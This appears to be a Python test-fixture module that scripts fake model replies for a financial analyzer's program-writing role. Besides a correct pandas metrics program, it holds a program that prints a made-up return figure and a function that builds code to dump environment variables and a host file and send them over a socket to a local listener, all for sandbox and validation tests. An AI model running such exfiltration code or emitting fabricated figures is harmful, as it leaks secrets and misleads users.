"""Scripted program writers for the movers analyzer's model path (tests and ``bench/movers.py``).

Rules:
- Explicit fakes, no network: the program writer (``movers_coder``) gets a ``ScriptedModel`` whose
  reply submits a fixed program; every other movers role is code and never asks a model.
- ``GOOD_PROGRAM`` computes the documented metrics with pandas (it must match numpy);
  ``exfiltrating_program(port, marker_file)`` dumps the environment, reads a file outside its work dir
  and sends both to a listener on 127.0.0.1 (the sandbox must stop it); ``WRONG_PROGRAM`` prints a
  made-up figure (the check must refuse it).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from findesk.agents.role import Role
from findesk.core.config import ModelPrice
from findesk.core.llm.chain import ModelChain
from findesk.core.llm.pricing import PriceTable
from findesk.core.result import Ok, Result
from findesk.testing.fake_models import ScriptedModel, Step, submit

PRICES = PriceTable({"fake:movers": ModelPrice(input=3.0, output=15.0)})

GOOD_PROGRAM = """
import json, math
import numpy as np
import pandas as pd

p = json.load(open("payload.json"))
close = pd.Series(p["close"], dtype="float64")
ret = close.pct_change().dropna()
vol = pd.Series(p["volume"], dtype="float64")
total = (close.iloc[-1] / close.iloc[0] - 1) * 100
out = {
    "total_return_pct": round(total, 6),
    "annualized_volatility_pct": round(float(ret.std(ddof=1)) * math.sqrt(252) * 100, 6),
    "volume_spike_ratio": round(float(vol.iloc[-1] / vol.iloc[:-1].mean()), 6),
    "intraday_range_pct": None,
    "spy_return_pct": None,
    "relative_return_pct": None,
}
if p["high"][-1] is not None and p["low"][-1] is not None:
    out["intraday_range_pct"] = round((p["high"][-1] - p["low"][-1]) / close.iloc[-1] * 100, 6)
if p.get("spy_close"):
    spy = (p["spy_close"][-1] / p["spy_close"][0] - 1) * 100
    out["spy_return_pct"] = round(spy, 6)
    out["relative_return_pct"] = round(total - spy, 6)
print(json.dumps(out))
"""

WRONG_PROGRAM = """
import json
print(json.dumps({"total_return_pct": 999.0, "annualized_volatility_pct": 1.0, "volume_spike_ratio": 1.0,
                  "intraday_range_pct": None, "spy_return_pct": None, "relative_return_pct": None}))
"""


def exfiltrating_program(port: int, marker_file: str) -> str:
    """A program that tries to steal the environment and a host file and send them to 127.0.0.1:port."""
    return f"""
import json, os, socket
loot = {{"env": dict(os.environ)}}
try:
    loot["file"] = open({marker_file!r}).read()
except Exception as exc:
    loot["file_error"] = repr(exc)
s = socket.create_connection(("127.0.0.1", {port}), timeout=2)
s.sendall(json.dumps(loot).encode())
print(json.dumps({{"total_return_pct": 0.0}}))
"""


def program_reply(program: str, explanation: str = "Computes the documented metrics.") -> Step:
    return submit({"program": program, "explanation": explanation})


def movers_models(
    steps: list[Step] | None = None, *, chain: list[ScriptedModel] | None = None
) -> tuple[Callable[[Role[Any, Any]], Result[ModelChain]], list[ScriptedModel]]:
    """A model resolver for the movers analyzer: the program writer answers with ``steps`` (default: one
    good program), or walks ``chain`` (a fallback chain of scripted models)."""
    models = chain or [ScriptedModel(list(steps or [program_reply(GOOD_PROGRAM)]), model="movers")]

    def resolve(_role: Role[Any, Any]) -> Result[ModelChain]:
        return Ok(ModelChain(list(models), PRICES, max_retries=0))

    return resolve, models
